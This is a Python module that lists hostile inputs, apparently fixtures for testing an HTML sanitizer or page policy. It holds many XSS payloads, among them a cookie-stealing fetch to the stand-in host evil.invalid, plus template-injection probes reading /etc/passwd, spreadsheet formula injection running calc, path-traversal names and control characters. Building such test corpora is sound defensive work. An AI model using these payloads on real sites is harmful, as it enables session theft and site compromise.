"""What a hostile text tries on a page: to run, to fetch, to lead away, to break out, to turn words around."""

from __future__ import annotations

__all__ = ["ATTACKS", "AWAY", "FOLDERS", "RAW"]

RUN = "pwned=1"
AWAY = "//evil.invalid"
SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<sCrIpT >{RUN}</ScRiPt >",
    f"<script src={AWAY}/a.js></script>",
    f"<script type=module>window.{RUN}</script>",
    f"<script/x>{RUN}</script\t\n bar>",
    f"<<script>{RUN}//<</script>",
    "<script>alert('pwned')</script>",
    "<script>console.error('pwned')</script>",
    f"<script>open('{AWAY}')</script>",
    f"<script>location='{AWAY}'</script>",
    f"<script>fetch('{AWAY}?'+document.cookie)</script>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img/src=`x`onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<style onload={RUN}></style>",
    f"<div style=animation-name:x onanimationstart={RUN}>",
    f"<button popovertarget=x>p</button><b popover id=x onbeforetoggle={RUN}>",
)
ATTRIBUTES = (
    f'" onmouseover={RUN} x="',
    f"' onmouseover={RUN} x='",
    f'" autofocus tabindex=1 onfocus={RUN} "',
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"` onmouseover={RUN} `",
    f'" style="background:url({AWAY}/s)',
    f'" srcdoc="<script>{RUN}</script>',
    f'\\"><script>{RUN}</script>',
)
ADDRESSES = (
    f"javascript:{RUN}",
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="JaVa&Tab;Script&colon;{RUN}">x</a>',
    f'<a href="\x01java\nscript:{RUN}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    f"<a href=vbscript:{RUN}>x</a>",
    f"<a href={AWAY} ping={AWAY}/p target=_blank>x</a>",
    f"<form action=javascript:{RUN}><input type=submit>",
    f"<button formaction=javascript:{RUN}>x",
    f"<area href=javascript:{RUN}>",
)
EMBEDS = (
    f"<iframe src={AWAY}></iframe>",
    f"<iframe src=javascript:top.{RUN}>",
    f"<iframe srcdoc='<script>top.{RUN}</script>'>",
    f"<object data={AWAY}/o></object>",
    f"<embed src={AWAY}/e>",
    f"<img src={AWAY}/i><img srcset={AWAY}/j>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<svg><image href={AWAY}/v></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject>",
    f"<svg><style><img src=x onerror={RUN}></style>",
    f"<math><mtext><style><img src=x onerror={RUN}></style>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script>",
    f"<template><script>{RUN}</script></template>",
    f"<portal src={AWAY}></portal>",
)
HEADS = (
    f"<meta http-equiv=refresh content=0;url={AWAY}>",
    f'<meta http-equiv="refresh" content="1;javascript:{RUN}">',
    f"<base href={AWAY}>",
    f"<link rel=stylesheet href={AWAY}/c>",
    f"<link rel=prefetch href={AWAY}/d>",
    f"<link rel=import href={AWAY}/h>",
    f"<style>@import '{AWAY}/e';</style>",
    f"<style>*{{background:url({AWAY}/f)}}</style>",
    f"<p style=background:url({AWAY}/g)>",
    f"expression({RUN})",
)
BREAKOUTS = (
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</select><script>{RUN}</script>",
    f"</svg></math><script>{RUN}</script>",
    f"</pre></main></body><script>{RUN}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f"<main id=main data-live=x><script>{RUN}</script>",
)
UNCLOSED = (
    "<!-- <b>",
    f"--><script>{RUN}</script>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"]]><script>{RUN}</script>",
    f"<?php {RUN} ?><!DOCTYPE x>",
    f"<img src=x onerror={RUN} alt='",
    f"<script>{RUN}//",
    "<plaintext>",
    "</",
)
ENCODED = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"%253Cscript%253E{RUN}",
    f"\\x3cscript\\x3e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "&nbsp;&zwnj;&NotARealEntity;&#0;&#xD800;",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    "{# {{ notice|safe }} #}{% raw %}",
    "${7*7} #{7*7} <%= 7*7 %> {0.__class__} %(a)s",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
)
MARKDOWN = (
    f"[x](javascript:{RUN})",
    f"![x]({AWAY}/m)",
    f"<{AWAY}/auto> https:{AWAY}",
    f'[x]: {AWAY} "<script>{RUN}</script>"',
    f"# x\n```html\n<script>{RUN}</script>\n```",
)
SIGNS = (
    "a\x00b<scr\x00ipt>",
    "\x1b[2J\x1b]0;pwned\x07\x9b31m",
    "a\rb\x08c\x7fd\x0be\x0cf\x85g",
    "\u202eesrever\u202c \u202ax\u202b \u202d",
    "\u2066a\u2067b\u2068c\u2069",
    "\u200ez\u200f\u061c",
    "ze\u200bro\u200c\u200dwi\u2060dth\ufeff",
    "line\u2028para\u2029graph",
    "tag\U000e0041\U000e007f \ufff9x\ufffb",
)
SHEETS = ('=HYPERLINK("//evil.invalid")', "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1")
NAMES = ("__proto__", "constructor", "toString", "main", "../../etc/passwd", "..\\..\\x", "NaN", "null")
LONG = ("A" * 3000, "<b>" * 500, "&" * 700, '"' * 600, "<script>" + "x" * 900)

ATTACKS = (
    *SCRIPTS,
    *HANDLERS,
    *ATTRIBUTES,
    *ADDRESSES,
    *EMBEDS,
    *HEADS,
    *BREAKOUTS,
    *UNCLOSED,
    *ENCODED,
    *TEMPLATES,
    *MARKDOWN,
    *SIGNS,
    *SHEETS,
    *NAMES,
    *LONG,
)
RAW = (*SCRIPTS, *HANDLERS, *ATTRIBUTES, *EMBEDS, *HEADS[2:], *BREAKOUTS)
"""Those that a policy alone must stop, if they were ever part of a page: all but what navigates by itself."""
FOLDERS = (
    f"<img src=x onerror={RUN}>",
    f'" onmouseover={RUN} x="',
    "javascript:pwned=1",
    "a&b=c#d?e;f=%2e%2e%2fg",
    "{{ 7 * 7 }}",
    "\u202eesrever\x1b[31m",
    "__proto__",
    "a\nb\tc",
    "é" * 120,
    "x" * 255,
)
"""Names that a folder can have."""
